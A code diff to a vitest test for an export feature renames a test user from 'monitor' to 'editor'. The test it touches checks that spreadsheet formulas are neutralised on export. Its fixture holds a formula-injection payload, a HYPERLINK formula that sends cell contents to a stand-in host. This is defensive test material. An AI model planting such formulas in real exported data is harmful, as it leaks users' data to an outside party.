@@ -1,7 +1,7 @@
 import { beforeAll, expect, it } from 'vitest';
 import { run, type App } from '../../platform/operation.ts';
 import { onBothDatabases } from '../../platform/testing/databases.ts';
-import { monitor, testApp } from '../../platform/testing/test-app.ts';
+import { editor, testApp } from '../../platform/testing/test-app.ts';
 import { searchProjection } from '../../search/index/projection.ts';
 import { file } from '../../record/filing/file.ts';
 import { loadExample, type ExampleRefs } from '../example/load.ts';
@@ -107,7 +107,7 @@ onBothDatabases('an export', (db) => {
   });
 
   it('disables formulas in cells, and keeps the text in JSON Lines', async () => {
-    await run(app, file, monitor, {
+    await run(app, file, editor, {
       cases: [
         { title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' },
       ],
